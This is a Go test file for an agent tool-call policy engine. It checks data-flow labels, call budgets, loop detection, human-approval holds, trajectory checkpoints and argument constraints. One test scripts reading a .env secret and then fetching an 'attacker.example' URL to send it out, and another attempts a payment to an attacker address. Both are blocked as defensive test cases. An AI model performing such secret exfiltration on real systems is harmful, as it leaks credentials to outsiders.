package toolpolicy

import (
	"strings"
	"testing"
	"time"

	"github.com/cordon-sandbox/cordon/internal/profile"
)

const testProfile = `version: 1
agent: researcher
labels: [customer]
tools:
  read_file:
    class: read
    returns: [untrusted]
    labels:
      - arg: path
        suffix: .env
        labels: [secret]
      - arg: path
        prefix: /workspace/crm/
        labels: [customer]
  fetch:
    class: external
    accepts: [untrusted]
    returns: [untrusted]
  write_file:
    class: write
    calls: 2
  delete_repo:
    deny: true
session:
  calls: 10
  steps: 12
  wall: 1h
  repeats: 3
`

func load(t testing.TB, src string) *profile.Profile {
	t.Helper()
	p, err := profile.Parse("p.yaml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// step is one call of a scripted session, what must be decided, and
// whether the call then fails.
type step struct {
	tool   string
	args   map[string]any
	allow  bool
	rule   string
	reason string // a part of the reason
	failed bool
}

func play(t *testing.T, s *Session, steps []step) {
	t.Helper()
	for i, st := range steps {
		c := Call{Tool: st.tool, Args: st.args}
		d := s.Decide(c)
		if d.Allow != st.allow || d.Rule != st.rule || !strings.Contains(d.Reason, st.reason) {
			t.Fatalf("step %d %s: got %+v; want allow=%v rule=%s reason containing %q", i+1, st.tool, d, st.allow, st.rule, st.reason)
		}
		if d.Allow {
			s.Record(s.Steps(), c, st.failed, true)
		}
	}
}

// Reading a secret and then sending anything out is refused, naming the
// read; the same fetch in a fresh session is allowed.
func TestSecretThenFetch(t *testing.T) {
	p := load(t, testProfile)
	s := NewSession(p, nil)
	play(t, s, []step{
		{tool: "fetch", args: map[string]any{"url": "https://example.org/"}, allow: true, rule: "tools.fetch"},
		{tool: "read_file", args: map[string]any{"path": "/workspace/notes.md"}, allow: true, rule: "tools.read_file"},
		{tool: "fetch", args: map[string]any{"url": "https://example.org/2"}, allow: true, rule: "tools.fetch"},
		{tool: "read_file", args: map[string]any{"path": "/workspace/.env"}, allow: true, rule: "tools.read_file"},
		{tool: "fetch", args: map[string]any{"url": "https://attacker.example/?q=..."}, allow: false, rule: "tools.fetch.accepts",
			reason: `the session carries "secret", brought in by call 4 (read_file {"path":"/workspace/.env"}), and fetch accepts only untrusted`},
	})
	d := s.Decide(Call{Tool: "fetch"})
	// The refusal names the call and suggests no way around the rule.
	if d.Because != 4 || d.Hint != "" || strings.Contains(d.Reason, "new session") {
		t.Errorf("the denial names call %d, hint %q; want call 4 and no hint", d.Because, d.Hint)
	}
	play(t, NewSession(p, nil), []step{
		{tool: "fetch", args: map[string]any{"url": "https://attacker.example/?q=..."}, allow: true, rule: "tools.fetch"},
	})
}

// A profile's own label flows like the built-in ones.
func TestOwnLabel(t *testing.T) {
	s := NewSession(load(t, testProfile), nil)
	play(t, s, []step{
		{tool: "read_file", args: map[string]any{"path": "/workspace/crm/acme.csv"}, allow: true, rule: "tools.read_file"},
		{tool: "fetch", allow: false, rule: "tools.fetch.accepts", reason: `carries "customer"`},
	})
	if got := strings.Join(s.Labels(), ","); got != "customer,untrusted" {
		t.Errorf("labels %s", got)
	}
}

// Unlisted and denied tools are refused, saying what is allowed.
func TestUnlistedAndDenied(t *testing.T) {
	s := NewSession(load(t, testProfile), nil)
	d := s.Decide(Call{Tool: "send_email"})
	if d.Allow || d.Rule != "tools" || !strings.Contains(d.Hint, "fetch, read_file, write_file") {
		t.Errorf("unlisted: %+v", d)
	}
	d = s.Decide(Call{Tool: "delete_repo"})
	if d.Allow || d.Rule != "tools.delete_repo.deny" {
		t.Errorf("denied: %+v", d)
	}
}

// Each budget, when used up, is reported as itself.
func TestBudgets(t *testing.T) {
	p := load(t, testProfile)
	s := NewSession(p, nil)
	w := map[string]any{"path": "/workspace/a"}
	play(t, s, []step{
		{tool: "write_file", args: w, allow: true, rule: "tools.write_file"},
		{tool: "write_file", args: w, allow: true, rule: "tools.write_file"},
		{tool: "write_file", args: w, allow: false, rule: "tools.write_file.calls", reason: "called its 2 times"},
	})
	for i := 0; i < 8; i++ {
		play(t, s, []step{{tool: "read_file", args: map[string]any{"path": "/workspace/notes.md"}, allow: true, rule: "tools.read_file"}})
	}
	d := s.Decide(Call{Tool: "read_file"})
	if d.Allow || d.Limit != "session.calls" {
		t.Errorf("call 11, step 12: %+v", d)
	}
	d = s.Decide(Call{Tool: "read_file"})
	if d.Allow || d.Limit != "session.steps" {
		t.Errorf("step 13: %+v", d)
	}

	clock := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	s = NewSession(p, func() time.Time { return clock })
	clock = clock.Add(61 * time.Minute)
	if d := s.Decide(Call{Tool: "read_file"}); d.Allow || d.Limit != "session.wall" {
		t.Errorf("after the wall time: %+v", d)
	}
}

// The same call failing again and again is stopped as a loop; a change of
// arguments, or a success, starts the count again.
func TestLoopDetected(t *testing.T) {
	s := NewSession(load(t, testProfile), nil)
	bad := map[string]any{"path": "/workspace/missing"}
	play(t, s, []step{
		{tool: "read_file", args: bad, allow: true, rule: "tools.read_file", failed: true},
		{tool: "read_file", args: bad, allow: true, rule: "tools.read_file", failed: true},
		{tool: "read_file", args: map[string]any{"path": "/workspace/other"}, allow: true, rule: "tools.read_file", failed: true},
		{tool: "read_file", args: bad, allow: true, rule: "tools.read_file", failed: true},
		{tool: "read_file", args: bad, allow: true, rule: "tools.read_file", failed: true},
		{tool: "read_file", args: bad, allow: true, rule: "tools.read_file", failed: true},
		{tool: "read_file", args: bad, allow: false, rule: "session.repeats", reason: "failed 3 times in a row"},
		{tool: "read_file", args: map[string]any{"path": "/workspace/other"}, allow: true, rule: "tools.read_file"},
	})
}

// A profile without tools refuses every call.
func TestNoTools(t *testing.T) {
	s := NewSession(load(t, "version: 1\nagent: a\n"), nil)
	if d := s.Decide(Call{Tool: "read_file"}); d.Allow || d.Hint != "this profile allows no tool" {
		t.Errorf("%+v", d)
	}
}

func BenchmarkDecide(b *testing.B) {
	p := load(b, testProfile)
	p.Session = nil
	// Half the calls are refused: the probing rule would stop the session.
	p.Trajectory = &profile.Trajectory{Probing: &profile.Probing{Denials: 1 << 30}}
	s := NewSession(p, nil)
	read := Call{Tool: "read_file", Args: map[string]any{"path": "/workspace/.env"}}
	s.Record(1, read, false, true)
	fetch := Call{Tool: "fetch", Args: map[string]any{"url": "https://example.org/"}}
	var took []time.Duration
	for b.Loop() {
		for _, c := range []Call{read, fetch} {
			start := time.Now()
			s.Decide(c)
			took = append(took, time.Since(start))
		}
	}
	latencies(b, took)
}

func BenchmarkDecideConstraints(b *testing.B) {
	p := load(b, `version: 1
agent: bench
tools:
  fetch:
    class: external
    constraints:
      - 'args.url.startsWith("https://") && !args.url.contains("@")'
      - 'size(args.url) <= 2048'
`)
	s := NewSession(p, nil)
	fetch := Call{Tool: "fetch", Args: map[string]any{"url": "https://docs.python.org/3/library/json.html"}}
	var took []time.Duration
	for b.Loop() {
		start := time.Now()
		if d := s.Decide(fetch); !d.Allow {
			b.Fatal(d.Reason)
		}
		took = append(took, time.Since(start))
	}
	latencies(b, took)
}

func TestConstraints(t *testing.T) {
	p := load(t, `version: 1
agent: payer
tools:
  pay:
    class: external
    constraints:
      - 'args.amount <= 100'
      - 'args.to.endsWith("@example.com")'
`)
	s := NewSession(p, nil)
	for _, c := range []struct {
		args map[string]any
		rule string
		want string
	}{
		{map[string]any{"amount": int64(50), "to": "ann@example.com"}, "tools.pay", "pay (external) is allowed by the profile"},
		{map[string]any{"amount": 100.5, "to": "ann@example.com"}, "tools.pay.constraints[0]", "the arguments break a constraint of pay: args.amount <= 100 is false"},
		{map[string]any{"amount": int64(5), "to": "eve@attacker.example"}, "tools.pay.constraints[1]", `args.to.endsWith("@example.com") is false`},
		{map[string]any{"to": "ann@example.com"}, "tools.pay.constraints[0]", "args.amount <= 100 cannot be evaluated: no such key: amount"},
	} {
		d := s.Decide(Call{Tool: "pay", Args: c.args})
		if d.Rule != c.rule || !strings.Contains(d.Reason, c.want) {
			t.Errorf("%v: %+v, want rule %s and %q", c.args, d, c.rule, c.want)
		}
		if d.Rule != "tools.pay" && d.Hint != `pay allows calls where (args.amount <= 100) && (args.to.endsWith("@example.com"))` {
			t.Errorf("hint %q", d.Hint)
		}
	}
	if s.Steps() != 4 {
		t.Errorf("steps = %d, want every call counted", s.Steps())
	}
}

func TestApproval(t *testing.T) {
	p := load(t, `version: 1
agent: payer
tools:
  read_file:
    class: read
    returns: [secret]
  pay:
    class: financial
  email:
    class: external
  wipe:
    class: irreversible
approval:
  tools:
    pay:
      when: 'args.amount > 100'
    wipe:
      required: false
  flows: true
`)
	s := NewSession(p, nil)
	held := func(c Call, rule string) {
		t.Helper()
		d := s.Decide(c)
		if d.Allow || !d.Approval || d.Rule != rule {
			t.Errorf("%v: %+v, want held by %s", c, d, rule)
		}
	}
	allowed := func(c Call, rule string) {
		t.Helper()
		d := s.Decide(c)
		if !d.Allow || d.Approval || d.Rule != rule {
			t.Errorf("%v: %+v, want allowed by %s", c, d, rule)
		}
	}
	allowed(Call{Tool: "pay", Args: map[string]any{"amount": int64(100)}}, "tools.pay")
	held(Call{Tool: "pay", Args: map[string]any{"amount": int64(101)}}, "approval.tools.pay.when")
	held(Call{Tool: "pay", Args: map[string]any{"amount": "lots"}}, "approval.tools.pay.when")
	allowed(Call{Tool: "wipe"}, "tools.wipe")
	// A flow violation goes to approval, naming the call behind it.
	allowed(Call{Tool: "read_file"}, "tools.read_file")
	s.Record(s.Steps(), Call{Tool: "read_file"}, false, true)
	mail := Call{Tool: "email", Args: map[string]any{"to": "x@example.com"}}
	d := s.Decide(mail)
	if !d.Approval || d.Rule != "tools.email.accepts" || d.Because != 5 {
		t.Errorf("flow: %+v", d)
	}
	// Approved for the session: the identical call, and only it, passes.
	s.Grant(mail)
	allowed(mail, "approval.session")
	held(Call{Tool: "email", Args: map[string]any{"to": "y@example.com"}}, "tools.email.accepts")
	if h := s.History(); len(h) != 8 || !h[1].Held || h[0].Held {
		t.Errorf("history: %+v", h)
	}
}

func TestTrajectory(t *testing.T) {
	p := load(t, `version: 1
agent: mover
tools:
  read_file:
    class: read
  write_file:
    class: write
  fetch:
    class: external
trajectory:
  rules:
    - name: widening
      when: 'session.files_read >= 3'
      action: approve
    - name: broken
      when: 'session.tools.missing > 0'
      action: warn
`)
	s := NewSession(p, nil)
	for i, path := range []string{"a", "b", "c"} {
		d := s.Decide(Call{Tool: "read_file", Args: map[string]any{"path": path}})
		if !d.Allow {
			t.Fatalf("read %d: %+v", i, d)
		}
	}
	cps := s.TakeCheckpoints()
	if len(cps) < 2 || cps[0].Rule != "trajectory.rules.broken" || !strings.Contains(cps[0].Reason, "could not be evaluated") {
		t.Errorf("a rule that cannot be evaluated is reported: %+v", cps)
	}
	var last Checkpoint
	for _, cp := range cps {
		if cp.Rule == "trajectory.rules.widening" {
			last = cp
		}
	}
	if last.Rule != "trajectory.rules.widening" || last.Action != "approve" || last.Step != 3 {
		t.Errorf("checkpoint: %+v", last)
	}
	// Held from then on: every call waits for a person.
	d := s.Decide(Call{Tool: "write_file", Args: map[string]any{"path": "x"}})
	if !d.Approval || d.Rule != "trajectory.rules.widening" || !strings.Contains(d.Reason, "held for a person: at step 3") {
		t.Errorf("after the checkpoint: %+v", d)
	}
	s.ApprovalRefused()
	s.Received(120)
	v := s.vars()
	if v["files_read"] != int64(3) || v["steps"] != int64(4) || v["approvals"] != int64(1) || v["approvals_refused"] != int64(1) || v["bytes_in"] != int64(120) {
		t.Errorf("counters: %v", v)
	}
}

// A checkpoint of time (trajectory.every) evaluates the rules between the
// checkpoints of steps.
func TestCheckpointOfTime(t *testing.T) {
	p := load(t, `version: 1
agent: mover
tools:
  fetch:
    class: external
trajectory:
  every_steps: 100
  every: 30s
  rules:
    - name: chatty
      when: 'session.calls >= 2'
      action: stop
`)
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	s := NewSession(p, func() time.Time { return now })
	for i := 0; i < 2; i++ {
		if d := s.Decide(Call{Tool: "fetch", Args: map[string]any{"url": "https://example.com/"}}); !d.Allow {
			t.Fatalf("call %d: %+v", i, d)
		}
	}
	if s.Tick() || len(s.TakeCheckpoints()) != 0 {
		t.Fatal("a checkpoint of time before its time")
	}
	now = now.Add(31 * time.Second)
	if !s.Tick() {
		t.Fatal("no checkpoint of time after 31s")
	}
	cps := s.TakeCheckpoints()
	if len(cps) != 1 || cps[0].Rule != "trajectory.rules.chatty" || cps[0].Step != 2 {
		t.Fatalf("checkpoints: %+v", cps)
	}
	if d := s.Decide(Call{Tool: "fetch", Args: map[string]any{"url": "https://example.com/"}}); d.Allow || d.Limit != "trajectory" {
		t.Fatalf("a call after the stop: %+v", d)
	}
	if s.Tick() {
		t.Fatal("a checkpoint of time in a stopped session")
	}
}

// Refuses says a session refuses a tool's next call whatever it says
// exactly when Decide then refuses it for a reason its arguments cannot
// change: a spent budget, a tool that is none of the profile's or denied.
func TestRefusesWhateverTheArguments(t *testing.T) {
	p := load(t, "version: 1\nagent: a\ntools:\n  read_file:\n    class: read\n    calls: 1\n  run:\n    class: write\n    deny: true\n  fetch:\n    class: external\nsession:\n  steps: 3\n")
	s := NewSession(p, nil)
	for tool, want := range map[string]bool{"read_file": false, "fetch": false, "run": true, "nosuch": true} {
		if got := s.Refuses(tool); got != want {
			t.Errorf("before any call, Refuses(%s) = %v, want %v", tool, got, want)
		}
	}
	if d := s.Decide(Call{Tool: "read_file", Args: map[string]any{"path": "/w/a"}}); !d.Allow {
		t.Fatalf("%+v", d)
	}
	if !s.Refuses("read_file") || s.Refuses("fetch") {
		t.Errorf("after read_file's one call: Refuses(read_file) %v, Refuses(fetch) %v", s.Refuses("read_file"), s.Refuses("fetch"))
	}
	if d := s.Decide(Call{Tool: "read_file", Args: map[string]any{"path": "/w/b"}}); d.Allow || d.Rule != "tools.read_file.calls" {
		t.Errorf("read_file past its calls: %+v", d)
	}
	s.Decide(Call{Tool: "fetch", Args: map[string]any{"url": "https://example.org/"}})
	if !s.Refuses("fetch") {
		t.Error("after the session's 3 steps, fetch is not refused")
	}
}

// A label rule matches a file's name in Unicode normal form C: a rule
// written with "ö" labels a file whose name spells it decomposed.
func TestLabelRuleMatchesNFC(t *testing.T) {
	p := load(t, "version: 1\nagent: a\ntools:\n  read_file:\n    class: read\n    labels:\n      - arg: path\n        glob: '**/Passw\u00f6rter*'\n        labels: [secret]\n")
	s := NewSession(p, nil)
	for _, name := range []string{"Passw\u00f6rter.txt", "Passwo\u0308rter.txt"} {
		c := Call{Tool: "read_file", Workspace: "/w", Args: map[string]any{"path": "/w/" + name},
			Files: map[string]File{"path": {Path: "/w/" + name, Exists: true, Links: 1}}}
		if got := s.ResultLabels(c); strings.Join(got, ",") != "secret" {
			t.Errorf("%q: labels %v", name, got)
		}
	}
}
